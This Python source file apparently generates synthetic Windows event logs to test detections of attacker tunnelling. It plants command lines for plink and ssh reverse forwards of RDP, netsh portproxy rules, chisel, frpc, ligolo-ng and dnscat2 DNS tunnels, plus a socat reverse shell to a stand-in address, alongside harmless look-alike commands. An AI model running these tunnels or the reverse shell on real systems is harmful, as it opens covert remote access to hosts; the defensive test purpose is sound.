"""Planted protocol tunnelling beyond ngrok (issue 16): SSH forwards, port proxies, proxy tools, tunnel services.

Why: real intrusions tunnel RDP through `plink -R`, `netsh interface portproxy` and tools such as chisel
or ligolo-ng as often as through a tunnel service, and each has a grammar of its own. Every planted
command line and lookup names the truth keys (oracle.TUNNEL_VARIANTS) that must find it (`hits`) and
those that must not (`near`); the near misses share a word, a flag letter or a suffix with the real
thing (`ssh -V`, `netsh interface show interface`, `chisel` inside another word, `notcloudflared.com`).
"""

from __future__ import annotations

from tunnelhunt.generate.oracle import (
    CURRENT_CLIENTS,
    CURRENT_DNS,
    IP_HELPER,
    NETSH_PORT_PROXY,
    PORT_PROXY,
    PORT_PROXY_REGISTRY,
    PROXY_TOOL,
    PROXY_TOOLS,
    RDP_LOOPBACK_CONNECTION,
    RDP_LOOPBACK_LOGON,
    SSH_FORWARDING,
    SSH_REMOTE_ACCESS,
    SSH_TUNNEL,
    SSH_TUNNEL_HIGH_RISK,
    TUNNEL_SERVICE_CLIENT,
    TUNNEL_SERVICE_DNS,
)
from tunnelhunt.generate.sysmon.catalogue import CHROME, CMD, POWERSHELL
from tunnelhunt.generate.sysmon.events import Proc
from tunnelhunt.generate.sysmon.plan import Planner

_SSH_BOTH = (SSH_TUNNEL, SSH_TUNNEL_HIGH_RISK)
_SSH_RISKY = (*_SSH_BOTH, SSH_REMOTE_ACCESS)
_SSH_PLAIN = (SSH_TUNNEL, SSH_FORWARDING)
_SSH_NONE = (*_SSH_BOTH, SSH_FORWARDING, SSH_REMOTE_ACCESS)
_PORTPROXY = "HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\"


def _ssh_forwards(plan: Planner) -> None:
    """srv-file-01, frank: RDP tunnelled out with plink as in the public EVTX sample; SOCKS and WinRM over SSH."""
    s = plan.script("srv-file-01")
    ps = s.spawn("powershell", POWERSHELL, s.proc("explorer"), integrity="High")
    plink = "C:\\Users\\Public\\plink.exe"
    tunnel = s.spawn(
        plink,
        f"{plink} 203.0.113.50 -P 443 -l tunnel -pw Winter2026! -hostkey SHA256:3kL1qT9vXzP0aB7cD2eF5gH8iJ "
        "-N -R 127.0.0.3:4444:127.0.0.2:3389",
        ps,
        integrity="High",
        hits=_SSH_RISKY,
        near=(SSH_FORWARDING,),
    )
    s.connect(tunnel, "203.0.113.50", 443)
    s.wait(60, 600)  # the attacker's RDP session comes back through the tunnel: plink relays it to 127.0.0.2:3389
    s.connect(tunnel, "127.0.0.2", 3389, src_ip="127.0.0.1", hits=(RDP_LOOPBACK_CONNECTION,))
    s.wfp_connection(tunnel, "127.0.0.1", "127.0.0.2", 3389, hits=(RDP_LOOPBACK_CONNECTION,))
    s.rdp_authentication("127.0.0.1", hits=(RDP_LOOPBACK_LOGON,))
    s.logon(10, "127.0.0.1", hits=(RDP_LOOPBACK_LOGON,))
    s.wait(300, 1200)
    s.spawn("ssh", "ssh -N -f -D 1080 ops@203.0.113.51", ps, hits=_SSH_PLAIN, near=(SSH_TUNNEL_HIGH_RISK,))
    s.spawn(
        "C:\\Program Files\\PuTTY\\putty.exe",
        '"C:\\Program Files\\PuTTY\\putty.exe" -ssh -L 5985:127.0.0.1:5985 admin@203.0.113.52',
        ps,
        hits=_SSH_RISKY,
    )
    smb = s.spawn("ssh", "ssh -NR 4445:127.0.0.1:445 relay@203.0.113.53", ps, hits=_SSH_RISKY)
    s.connect(smb, "127.0.0.1", 445, src_ip="127.0.0.1", near=(RDP_LOOPBACK_CONNECTION,), miss="445")
    s.wfp_connection(smb, "127.0.0.1", "127.0.0.1", 445, near=(RDP_LOOPBACK_CONNECTION,), miss="445")
    s.spawn(
        "ssh",
        'ssh -o "LocalForward 8443 intranet.corp.example.com:443" jump.corp.example.com',
        ps,
        hits=_SSH_PLAIN,
        near=(SSH_TUNNEL_HIGH_RISK, SSH_REMOTE_ACCESS),
    )
    s.spawn("ssh", "ssh -fNL 15432:srv-db-01.corp.example.com:5432 frank@jump.corp.example.com", ps, hits=_SSH_PLAIN,
            near=(SSH_REMOTE_ACCESS,))  # fmt: skip
    s.spawn(
        "ssh", "ssh -N -R 3389:10.20.10.21:33890 relay@203.0.113.53", ps, hits=_SSH_PLAIN, near=(SSH_REMOTE_ACCESS,)
    )  # fmt: skip  (the target port is 33890, not RDP)
    for command in (
        "ssh -V",
        "ssh -l admin -p 2222 srv-db-01.corp.example.com",
        "ssh -T git@github.com",
        "ssh -o BatchMode=yes -i C:\\Users\\frank\\.ssh\\id_ed25519 backup@10.20.10.41 hostname",
    ):
        s.spawn("ssh", command, ps, near=_SSH_NONE)
    s.spawn(plink, f'{plink} -batch -ssh backup@10.20.10.41 "df -h"', ps, near=_SSH_NONE)
    plan.place(s)


def _port_proxies(plan: Planner) -> None:
    """srv-web-01, frank: port proxies to RDP in full and abbreviated netsh grammar, and netsh's everyday use."""
    s = plan.script("srv-web-01")
    ps = s.spawn("powershell", POWERSHELL, s.proc("explorer"), integrity="High")
    services = s.proc("services")
    for image, command in (  # the IP Helper service carries the rules: it is enabled and started first
        ("sc", "sc.exe config iphlpsvc start= auto"),
        ("net", "net start iphlpsvc"),
        ("powershell", 'powershell.exe -NoProfile -Command "Start-Service -Name iphlpsvc"'),
    ):
        s.spawn(image, command, ps, integrity="High", hits=(IP_HELPER,))
    s.registry(services, "HKLM\\System\\CurrentControlSet\\Services\\iphlpsvc\\Start", "DWORD (0x00000002)",
               near=(PORT_PROXY_REGISTRY,))  # fmt: skip
    for command, key, rule in (
        ("netsh interface portproxy add v4tov4 listenport=8001 listenaddress=0.0.0.0 connectport=3389 "
         "connectaddress=10.20.10.21", "v4tov4\\tcp\\0.0.0.0/8001", "10.20.10.21/3389"),
        ("netsh I p a v l=8001 listena=127.0.0.1 connectp=3389 c=1.1.1.1", "v4tov4\\tcp\\127.0.0.1/8001",
         "1.1.1.1/3389"),
        ('"C:\\Windows\\System32\\netsh.exe" int portproxy set v4tov4 listenport=8443 connectaddress=10.20.10.31 '
         "connectport=443", "v4tov4\\tcp\\*/8443", "10.20.10.31/443"),
    ):  # fmt: skip
        netsh = s.spawn("netsh", command, ps, integrity="High", hits=(PORT_PROXY, NETSH_PORT_PROXY))
        s.registry(netsh, _PORTPROXY + key, rule, hits=(PORT_PROXY_REGISTRY,))
        s.wait(5, 60)
    # a rule written without netsh: only the registry sees it
    reg = s.spawn("reg", f'reg.exe add "{_PORTPROXY}v4tov6\\tcp" /v 0.0.0.0/9001 /t REG_SZ /d fd00::41/3389 /f', ps,
                  integrity="High", near=(NETSH_PORT_PROXY,))  # fmt: skip
    s.registry(reg, _PORTPROXY + "v4tov6\\tcp\\0.0.0.0/9001", "fd00::41/3389", hits=(PORT_PROXY_REGISTRY,))
    s.registry(reg, "HKLM\\System\\CurrentControlSet\\Services\\PortProxyX\\v4tov4\\tcp\\0.0.0.0/8002",
               "10.20.10.21/3389", near=(PORT_PROXY_REGISTRY,))  # fmt: skip
    for image, command in (
        ("sc", "sc.exe query iphlpsvc"),
        ("sc", "sc.exe stop iphlpsvc"),
        ("sc", "sc.exe config iphlpsvc start= disabled"),
        ("net", "net start"),
        ("powershell", 'powershell.exe -NoProfile -Command "Get-Service -Name iphlpsvc"'),
    ):
        s.spawn(image, command, ps, integrity="High", near=(IP_HELPER,))
    for command in (
        "netsh interface show interface",
        "netsh interface portproxy show all",
        "netsh interface portproxy delete v4tov4 listenport=8001 listenaddress=0.0.0.0",
        'netsh advfirewall firewall add rule name="Allow 8001" dir=in action=allow protocol=TCP localport=8001',
        "netsh int ipv4 show excludedportrange protocol=tcp",
    ):
        s.spawn("netsh", command, ps, integrity="High", near=(PORT_PROXY, NETSH_PORT_PROXY))
    plan.place(s)


def _proxy_tools(plan: Planner) -> None:
    """srv-db-01, the SQL service account: a foothold that tries one tunnel tool after another, renamed or not."""
    s = plan.script("srv-db-01")
    shell = s.spawn("cmd", CMD, s.proc("sqlservr"), account="sql", integrity="High")
    tools = "C:\\ProgramData\\Microsoft\\Crypto\\"

    def run(path: str, arguments: str, hits: tuple[str, ...] = (PROXY_TOOL, PROXY_TOOLS)) -> Proc:
        proc = s.spawn(path, f"{path} {arguments}", shell, account="sql", integrity="High", hits=hits)
        s.wait(20, 300)
        return proc

    chisel = run(f"{tools}svcupd.exe", "client --auth ops:Tr0ub4dor https://203.0.113.60:443 R:3389:127.0.0.1:3389")
    s.connect(chisel, "203.0.113.60", 443)
    s.wait(30, 300)  # an RDP session through the reverse tunnel: chisel relays it to this host's own listener
    s.connect(chisel, "127.0.0.1", 3389, src_ip="127.0.0.1", hits=(RDP_LOOPBACK_CONNECTION,))
    s.logon(10, "127.0.0.1", account="user", hits=(RDP_LOOPBACK_LOGON,))
    run(f"{tools}chisel.exe", "client 203.0.113.61:8080 R:socks")
    run(f"{tools}chisel.exe", "client 203.0.113.61:8080 13389:10.20.10.41:3389", hits=(PROXY_TOOLS,))  # local
    run(f"{tools}frpc.exe", f"-c {tools}frpc.toml")
    run(f"{tools}wuauhelper.exe", "tcp --server_addr 203.0.113.62:7000 --local_port 3389 --remote_port 6000")  # frpc
    run(f"{tools}agent.exe", "-connect 203.0.113.63:11601 -ignore-cert -retry")  # ligolo-ng
    run(f"{tools}gost.exe", "-L rtcp://:3389/127.0.0.1:3389 -F relay+tls://203.0.113.64:443")
    run(f"{tools}gost-windows-amd64.exe", "-L socks5://:1080")
    socat = run(f"{tools}socat.exe", "TCP4-LISTEN:13389,fork TCP4:10.20.10.41:3389")
    # RDP relayed to another host: neither the connection nor the logon it brings comes from loopback
    s.connect(socat, "10.20.10.41", 3389, near=(RDP_LOOPBACK_CONNECTION,), miss="10.20.10.41")
    s.wfp_connection(socat, "10.20.10.21", "10.20.10.41", 3389, near=(RDP_LOOPBACK_CONNECTION,), miss="10.20.10.41")
    run(f"{tools}revsocks.exe", "-connect 203.0.113.65:8443 -pass Sup3rS3cret")
    run(f"{tools}rathole.exe", f"{tools}client.toml")
    run(f"{tools}iodine.exe", "-f -r -P s3cret 203.0.113.66 t1.tunnel-example.net")
    run(f"{tools}dnscat2-v0.07-client-win32.exe", "--dns server=203.0.113.67,port=53 --secret=4f1c2d9e")
    ps = s.spawn(
        "powershell",
        'powershell.exe -ep bypass -c "Import-Module .\\dnscat2.ps1; Start-Dnscat2 -Domain t2.tunnel-example.net '
        '-DNSServer 203.0.113.67"',
        shell,
        account="sql",
        integrity="High",
        hits=(PROXY_TOOL, PROXY_TOOLS),
    )
    s.dns(ps, "t2.tunnel-example.net", results="")
    for image, command in (
        ("curl", "curl.exe -L -o chisel.gz https://github.com/jpillora/chisel/releases/download/v1.10.1/"
         "chisel_1.10.1_windows_amd64.gz"),
        ("curl", "curl.exe -L https://intranet.corp.example.com/health"),
        (f"{tools}socat.exe", f"{tools}socat.exe -V"),
        (f"{tools}frpc.exe", f"{tools}frpc.exe --version"),
        ("C:\\Program Files\\Zabbix Agent\\zabbix_agentd.exe",
         '"C:\\Program Files\\Zabbix Agent\\zabbix_agentd.exe" --config "C:\\Program Files\\Zabbix Agent\\'
         'zabbix_agentd.conf"'),
    ):  # fmt: skip
        s.spawn(image, command, shell, account="sql", integrity="High", near=(PROXY_TOOL, PROXY_TOOLS))
    s.spawn(
        f"{tools}socat.exe",
        f"{tools}socat.exe TCP4:203.0.113.68:4444 EXEC:cmd.exe,pipes",
        shell,
        account="sql",
        integrity="High",
        near=(PROXY_TOOLS,),
    )  # fmt: skip  (a reverse shell, not a relay)
    plan.place(s)


#: The names a client of a current tunnel service looks up when it opens a tunnel (by client file name).
_CURRENT_LOOKUPS = {
    "zrok.exe": (("api.zrok.io", "::ffff:143.198.72.5;"),),
    "localtonet.exe": (("localtonet.com", "::ffff:185.114.245.107;"), ("eu2.localto.net", "::ffff:185.114.245.90;")),
    "playit.exe": (("api.playit.gg", "::ffff:147.185.221.1;"), ("kbdq3x.ply.gg", "::ffff:147.185.221.22;")),
}


def _tunnel_services(plan: Planner) -> None:
    """wks-017, bob: one tunnel service after another, each to expose RDP or a local app, and their look-alikes."""
    s = plan.script("wks-017")
    explorer = s.proc("explorer")
    ps = s.spawn("powershell", POWERSHELL, explorer)
    home = s.home
    clients = (
        (f"{home}\\Downloads\\cloudflared.exe", "tunnel run --token eyJhIjoiNWFiNGMzZDJlMWYwIiwidCI6IjEyMyJ9"),
        (f"{home}\\Downloads\\cloudflared.exe", "access rdp --hostname rdp.example-lab.com --url localhost:13389"),
        (f"{home}\\AppData\\Local\\Microsoft\\DevTunnels\\devtunnel.exe", "port create -p 3389"),
        ("C:\\Program Files\\Tailscale\\tailscale.exe", "funnel --bg 8080"),
        (f"{home}\\tools\\zrok.exe", "share private --backend-mode tcpTunnel 127.0.0.1:3389"),
        (f"{home}\\tools\\zrok.exe", "share public http://localhost:8080"),
        (f"{home}\\tools\\localtonet.exe", "authtoken 9f8e7d6c5b4a3f2e1d0c"),
        ("C:\\Program Files\\playit_gg\\bin\\playit.exe", "--secret_path C:\\ProgramData\\playit\\playit.toml start"),
    )
    current = {"Tailscale", "zrok.exe", "localtonet.exe", "playit_gg"}  # clients only the current detection knows
    for path, arguments in clients:
        extra = (CURRENT_CLIENTS,) if any(part in path for part in current) else ()
        client = s.spawn(path, f'"{path}" {arguments}', ps, hits=(TUNNEL_SERVICE_CLIENT, *extra))
        for name, results in _CURRENT_LOOKUPS.get(path.rsplit("\\", 1)[-1], ()):
            s.dns(client, name, hits=(CURRENT_DNS,), results=results)
        s.wait(30, 300)
    cloudflared = f"{home}\\Downloads\\cloudflared.exe"
    named = s.spawn(cloudflared, f'"{cloudflared}" tunnel --hostname rdp.example-lab.com --url rdp://localhost:3389',
                    ps, hits=(TUNNEL_SERVICE_CLIENT, CURRENT_CLIENTS))  # fmt: skip
    s.dns(named, "region1.v2.argotunnel.com", results="::ffff:198.41.192.7;", near=(CURRENT_DNS,))
    s.dns(named, "cftunnel.com", hits=(CURRENT_DNS,), results="::ffff:198.41.200.13;")
    s.wait(30, 300)
    agent = "C:\\ProgramData\\EdgeUpdate\\msedgeupd.exe"  # a white-labelled ngrok agent, pointed at its own ingress
    s.spawn(agent, f'"{agent}" tcp 3389 --connect-url=tun.cdn-edge-sync.example.net:443', ps,
            hits=(CURRENT_CLIENTS,))  # fmt: skip
    pinggy = s.spawn(
        "ssh", "ssh -p 443 -R0:localhost:3389 tcp@a.pinggy.io", ps, hits=(TUNNEL_SERVICE_CLIENT, *_SSH_BOTH)
    )
    s.dns(pinggy, "a.pinggy.io", results="::ffff:34.87.117.51;")
    code = s.spawn(
        f"{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\bin\\code-tunnel.exe",
        f'"{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\bin\\code-tunnel.exe" tunnel '
        "--accept-server-license-terms --name bob-lab",
        explorer,
        hits=(TUNNEL_SERVICE_CLIENT,),
    )
    s.dns(
        code,
        "usw2-data.rel.tunnels.api.visualstudio.com",
        hits=(TUNNEL_SERVICE_DNS, CURRENT_DNS),
        results="type:  5 tunnels-prod-rel-usw2-v3-cluster.westus2.cloudapp.azure.com;::ffff:20.125.0.17;",
    )
    s.dns(code, "bob-lab-3389.usw2.devtunnels.ms", hits=(TUNNEL_SERVICE_DNS,), results="::ffff:20.125.0.17;")
    for path, arguments in (
        (f"{home}\\Downloads\\cloudflared.exe", "--version"),
        (f"{home}\\Downloads\\cloudflared.exe", "tunnel list"),
        ("C:\\Program Files\\Tailscale\\tailscale.exe", "funnel status"),
        ("C:\\Program Files\\Tailscale\\tailscale.exe", "status"),
        ("C:\\Program Files\\Tailscale\\tailscale.exe", "serve 3000"),
        (f"{home}\\tools\\zrok.exe", "version"),
        (f"{home}\\tools\\zrok.exe", "enable 7f3c9a1b2d4e"),
        (f"{home}\\tools\\zrok.exe", "status"),
        (f"{home}\\AppData\\Local\\Microsoft\\DevTunnels\\devtunnel.exe", "user show"),
    ):
        s.spawn(path, f'"{path}" {arguments}', ps, near=(TUNNEL_SERVICE_CLIENT, CURRENT_CLIENTS))
    s.spawn("code", f'"{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" C:\\src\\tunnel-notes.md',
            explorer, near=(TUNNEL_SERVICE_CLIENT,))  # fmt: skip
    s.spawn("notepad", "notepad.exe C:\\Users\\bob\\Documents\\chiseled-oak-quote.txt", explorer, near=(PROXY_TOOL,))
    chrome = s.spawn("chrome", CHROME, explorer)
    for name, results in (
        ("quiet-river-1234.trycloudflare.com", "::ffff:104.16.231.132;"),
        ("k3j5h8g2x9.share.zrok.io", "::ffff:143.198.72.10;"),
        ("crl.ngrok-agent.com", "type:  5 crl.ngrok-agent.com.cdn.cloudflare.net;::ffff:104.18.34.11;"),
        ("team-demo-42.ngrok-free.dev", "::ffff:18.158.249.75;"),
    ):
        s.dns(chrome, name, hits=(TUNNEL_SERVICE_DNS, *((CURRENT_DNS,) if "zrok" in name else ())), results=results)
    s.dns(chrome, "survival-42.joinmc.link", hits=(CURRENT_DNS,), results="::ffff:147.185.221.20;")
    for name in (
        "notcloudflared.com",
        "share.zrok.io",
        "docs.zrok.io",
        "tunnels.api.visualstudio.com",
        "devtunnels.ms.example.net",
        "crl.ngrok-agent.com.example.net",
        "ngrok-free.dev",
    ):
        s.dns(chrome, name, near=(TUNNEL_SERVICE_DNS, CURRENT_DNS), results="")
    for name in ("cftunnel.com.example.net", "zrok.io", "localto.net", "playit.gg", "joinmc.link.example.org"):
        s.dns(chrome, name, near=(CURRENT_DNS,), results="")
    plan.place(s)


def _rdp_look_alikes(plan: Planner) -> None:
    """RDP and loopback logons that are no tunnel: an admin's RDP from a workstation, console logons from 127.0.0.1."""
    s = plan.script("srv-file-01")
    s.rdp_authentication("10.20.1.52", near=(RDP_LOOPBACK_LOGON,))
    s.logon(10, "10.20.1.52", near=(RDP_LOOPBACK_LOGON,))
    plan.place(s)
    s = plan.script("wks-042")  # no tunnel here: a loopback finding on this host could only be one of these
    for logon_type in (2, 7, 3):  # console logon, unlock, a local network logon: Windows stamps them 127.0.0.1
        s.logon(logon_type, "127.0.0.1", near=(RDP_LOOPBACK_LOGON,), miss=s.host.name)
        s.wait(60, 900)
    plan.place(s)


#: In the order they are planned (each draws from the planner's random generator).
TUNNEL_SCENARIOS = (_ssh_forwards, _port_proxies, _proxy_tools, _tunnel_services, _rdp_look_alikes)
